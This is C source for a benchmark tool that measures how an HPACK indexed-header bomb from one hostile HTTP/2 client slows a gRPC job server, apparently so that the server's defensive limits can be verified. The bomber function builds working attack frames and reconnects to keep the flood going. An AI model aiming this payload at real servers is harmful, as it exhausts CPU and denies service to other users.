/*
 * What one hostile gRPC client costs everybody else: the HPACK
 * indexed-header bomb against a running chuted.
 *
 *   bench_bomb HOST:PORT PID [name=bomb] [secs=5] [idle=2] [rate=0]
 *
 * A control client (the C client, one connection) creates standalone jobs
 * one at a time and records each CreateJob's latency: first for |idle|
 * seconds with nothing else going on, then for |secs| while a bomber runs.
 * The bomber is one connection at a time: it puts a 4000-byte header into
 * the HPACK dynamic table, then sends header blocks of 16 KiB of one-byte
 * references to it (0xBE; each block decodes to 66 MB of header list), at
 * most |rate| blocks a second (0: as fast as the server reads them; 64 is
 * the 1 MB/s that took a whole core before the limits); when the server
 * ends the connection (GOAWAY, close) it connects again at once and starts
 * over. chuted's CPU share comes from /proc/PID/stat.
 *
 * Bounded: secs and idle at most 60 each, and the control client stops at
 * 100 000 samples per phase. Targets HOST:PORT only (127.0.0.1 in
 * scripts/bench.sh).
 *
 * Prints `bench:` lines, NAME = |name|:
 *   NAME_control_create_p50_idle, _max_idle, _p50_during, _max_during (ms)
 *   NAME_chuted_cpu_pct_idle, NAME_chuted_cpu_pct (% of one core, before
 *     and during the bomb)
 *   NAME_blocks_written (whole blocks written to sockets, read or not),
 *   NAME_connections (bomb connections opened)
 */
#include <chute/client.h>

#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define MAX_SAMPLES 100000
#define BLOCK 16384

static int64_t now_ns(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (int64_t)ts.tv_sec * 1000000000 + ts.tv_nsec;
}

/* utime + stime of |pid| in clock ticks, or -1. */
static long long cpu_ticks(long pid)
{
    char path[64], buf[1024];
    snprintf(path, sizeof path, "/proc/%ld/stat", pid);
    FILE *f = fopen(path, "r");
    if (!f)
        return -1;
    size_t n = fread(buf, 1, sizeof buf - 1, f);
    fclose(f);
    buf[n] = '\0';
    const char *p = strrchr(buf, ')'); /* the name may hold spaces */
    if (!p)
        return -1;
    unsigned long long ut = 0, st = 0;
    /* after ") ": state ppid pgrp session tty tpgid flags minflt cminflt majflt cmajflt utime stime
     */
    if (sscanf(p + 2, "%*c %*d %*d %*d %*d %*d %*u %*u %*u %*u %*u %llu %llu", &ut, &st) != 2)
        return -1;
    return (long long)(ut + st);
}

static int cmp_double(const void *a, const void *b)
{
    double x = *(const double *)a, y = *(const double *)b;
    return x < y ? -1 : x > y;
}

/* ---- the bomber ----------------------------------------------------------------------- */

typedef struct bomber {
    char host[64];
    int port;
    double rate;     /* blocks a second at most; 0: no limit */
    int64_t next_ns; /* when the next block may go (with a rate) */
    atomic_int stop;
    uint64_t blocks;      /* blocks written whole */
    uint64_t connections; /* connections opened */
} bomber;

static void frame_header(uint8_t *out, uint32_t len, uint8_t type, uint8_t flags, uint32_t stream)
{
    out[0] = (uint8_t)(len >> 16);
    out[1] = (uint8_t)(len >> 8);
    out[2] = (uint8_t)len;
    out[3] = type;
    out[4] = flags;
    out[5] = (uint8_t)(stream >> 24 & 0x7f);
    out[6] = (uint8_t)(stream >> 16);
    out[7] = (uint8_t)(stream >> 8);
    out[8] = (uint8_t)stream;
}

static int write_all(int fd, const uint8_t *p, size_t n)
{
    while (n > 0) {
        ssize_t k = send(fd, p, n, MSG_NOSIGNAL);
        if (k < 0 && errno == EINTR)
            continue;
        if (k <= 0)
            return -1;
        p += k;
        n -= (size_t)k;
    }
    return 0;
}

/* One connection of the bomb, until the server ends it or |b->stop|. */
static void bomb_once(bomber *b)
{
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (fd < 0)
        return;
    int one = 1;
    setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one);
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((uint16_t)b->port)};
    inet_pton(AF_INET, b->host, &a.sin_addr);
    if (connect(fd, (struct sockaddr *)&a, sizeof a) != 0) {
        close(fd);
        struct timespec ts = {0, 10 * 1000000};
        nanosleep(&ts, NULL);
        return;
    }
    b->connections++;
    /* Preface, SETTINGS, and the block that puts x-bomb: 4000 bytes in the
     * dynamic table (literal with incremental indexing, new name). */
    static const char magic[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
    uint8_t first[24 + 9 + 9 + 4011];
    size_t n = 0;
    memcpy(first, magic, 24);
    n += 24;
    frame_header(first + n, 0, 4 /* SETTINGS */, 0, 0);
    n += 9;
    frame_header(first + n, 4011, 1 /* HEADERS */, 0x5 /* END_STREAM | END_HEADERS */, 1);
    n += 9;
    first[n++] = 0x40;
    first[n++] = 6;
    memcpy(first + n, "x-bomb", 6);
    n += 6;
    first[n++] = 0x7f; /* 4000 = 127 + 3873 = 127 + 33 + 30 * 128 */
    first[n++] = 0x80 | 33;
    first[n++] = 30;
    memset(first + n, 'b', 4000);
    n += 4000;
    if (write_all(fd, first, n) != 0) {
        close(fd);
        return;
    }
    static uint8_t block[9 + BLOCK];
    memset(block + 9, 0x80 | 62, BLOCK); /* indexed: dynamic entry 62 */
    uint32_t stream = 3;
    size_t off = 0; /* of the block being written */
    uint8_t rbuf[16384];
    while (!atomic_load(&b->stop)) {
        if (off == 0 && b->rate > 0) {
            int64_t wait = b->next_ns - now_ns();
            if (wait > 0) {
                struct timespec ts = {wait / 1000000000, wait % 1000000000};
                nanosleep(&ts, NULL);
                continue;
            }
        }
        if (off == 0) {
            if (b->rate > 0)
                b->next_ns += (int64_t)(1e9 / b->rate);
            frame_header(block, BLOCK, 1, 0x5, stream);
            stream += 2;
            if (stream > 0x7ffffff0u)
                break;
        }
        struct pollfd p = {.fd = fd, .events = POLLIN | POLLOUT};
        if (poll(&p, 1, 100) <= 0)
            continue;
        if (p.revents & (POLLIN | POLLHUP | POLLERR)) {
            /* Anything but answers to our streams ends this round: a
             * GOAWAY (type 7) anywhere in what arrived, or the close. */
            ssize_t k = recv(fd, rbuf, sizeof rbuf, MSG_DONTWAIT);
            if (k == 0 || (k < 0 && errno != EAGAIN && errno != EINTR))
                break;
            int goaway = 0;
            for (ssize_t i = 0; i + 9 <= k; i++) /* coarse: frames may split across reads */
                if (rbuf[i + 3] == 7 && rbuf[i] == 0 && rbuf[i + 1] == 0 && rbuf[i + 2] >= 8 &&
                    (rbuf[i + 5] | rbuf[i + 6] | rbuf[i + 7] | rbuf[i + 8]) == 0)
                    goaway = 1;
            if (goaway)
                break;
        }
        if (p.revents & POLLOUT) {
            ssize_t k = send(fd, block + off, sizeof block - off, MSG_NOSIGNAL | MSG_DONTWAIT);
            if (k < 0 && errno != EAGAIN && errno != EINTR)
                break;
            if (k > 0) {
                off += (size_t)k;
                if (off == sizeof block) {
                    off = 0;
                    b->blocks++;
                }
            }
        }
    }
    close(fd);
}

static void *bomber_main(void *arg)
{
    bomber *b = arg;
    b->next_ns = now_ns();
    while (!atomic_load(&b->stop))
        bomb_once(b);
    return NULL;
}

/* ---- the control client -------------------------------------------------------------- */

/* CreateJob one at a time for |secs|; latencies in ms into |out|. Returns
 * the count, -1 on a failed call. */
static int control(chute_client *c, double secs, double *out)
{
    chute_client_job_spec spec = {.type = "bomb-control", .variables = "{\"n\":1}"};
    int64_t end = now_ns() + (int64_t)(secs * 1e9);
    int n = 0;
    while (n < MAX_SAMPLES && now_ns() < end) {
        int64_t key, t0 = now_ns();
        chute_error err;
        if (chute_client_create_job(c, &spec, &key, NULL, &err) != 0) {
            fprintf(stderr, "bench_bomb: CreateJob: %s\n", err.message);
            return -1;
        }
        out[n++] = (double)(now_ns() - t0) / 1e6;
    }
    return n;
}

static void report(const char *name, const char *what, double *v, int n)
{
    qsort(v, (size_t)n, sizeof *v, cmp_double);
    printf("bench: %s_control_create_p50_%s %.3f ms\n", name, what, v[n / 2]);
    printf("bench: %s_control_create_max_%s %.3f ms\n", name, what, v[n - 1]);
}

int main(int argc, char **argv)
{
    if (argc < 3) {
        fprintf(stderr, "usage: bench_bomb HOST:PORT PID [name=bomb] [secs=5] [idle=2] [rate=0]\n");
        return 2;
    }
    const char *addr = argv[1];
    long pid = atol(argv[2]);
    const char *name = "bomb";
    double secs = 5, idle_secs = 2, rate = 0;
    for (int i = 3; i < argc; i++) {
        if (strncmp(argv[i], "name=", 5) == 0)
            name = argv[i] + 5;
        else if (strncmp(argv[i], "secs=", 5) == 0)
            secs = atof(argv[i] + 5);
        else if (strncmp(argv[i], "idle=", 5) == 0)
            idle_secs = atof(argv[i] + 5);
        else if (strncmp(argv[i], "rate=", 5) == 0)
            rate = atof(argv[i] + 5);
        else {
            fprintf(stderr, "bench_bomb: unknown argument %s\n", argv[i]);
            return 2;
        }
    }
    if (secs <= 0 || secs > 60 || idle_secs <= 0 || idle_secs > 60 || rate < 0 || pid <= 0) {
        fprintf(stderr, "bench_bomb: secs and idle: 0 to 60; rate >= 0; PID: chuted's\n");
        return 2;
    }
    static bomber b;
    b.rate = rate;
    const char *colon = strrchr(addr, ':');
    if (!colon || (size_t)(colon - addr) >= sizeof b.host) {
        fprintf(stderr, "bench_bomb: %s is not HOST:PORT\n", addr);
        return 2;
    }
    memcpy(b.host, addr, (size_t)(colon - addr));
    b.port = atoi(colon + 1);

    chute_client *c;
    chute_error err;
    if (chute_client_open(&c, addr, NULL, &err) != 0) {
        fprintf(stderr, "bench_bomb: %s\n", err.message);
        return 1;
    }
    double *idle = malloc(MAX_SAMPLES * sizeof *idle);
    double *during = malloc(MAX_SAMPLES * sizeof *during);
    long hz = sysconf(_SC_CLK_TCK);
    long long i0 = cpu_ticks(pid);
    int64_t iw0 = now_ns();
    int ni = control(c, idle_secs, idle);
    long long i1 = cpu_ticks(pid);
    int64_t iw1 = now_ns();
    if (ni <= 0) {
        chute_client_close(c);
        return 1;
    }

    long long t0 = cpu_ticks(pid);
    int64_t w0 = now_ns();
    pthread_t th;
    pthread_create(&th, NULL, bomber_main, &b);
    int nd = control(c, secs, during);
    atomic_store(&b.stop, 1);
    long long t1 = cpu_ticks(pid);
    int64_t w1 = now_ns();
    pthread_join(th, NULL);
    chute_client_close(c);
    if (nd <= 0)
        return 1;
    report(name, "idle", idle, ni);
    report(name, "during", during, nd);
    if (i0 >= 0 && i1 >= 0 && hz > 0)
        printf("bench: %s_chuted_cpu_pct_idle %.1f %%\n", name,
               100.0 * (double)(i1 - i0) / (double)hz / ((double)(iw1 - iw0) / 1e9));
    if (t0 >= 0 && t1 >= 0 && hz > 0)
        printf("bench: %s_chuted_cpu_pct %.1f %%\n", name,
               100.0 * (double)(t1 - t0) / (double)hz / ((double)(w1 - w0) / 1e9));
    printf("bench: %s_blocks_written %llu blocks\n", name, (unsigned long long)b.blocks);
    printf("bench: %s_connections %llu conns\n", name, (unsigned long long)b.connections);
    free(idle);
    free(during);
    return 0;
}
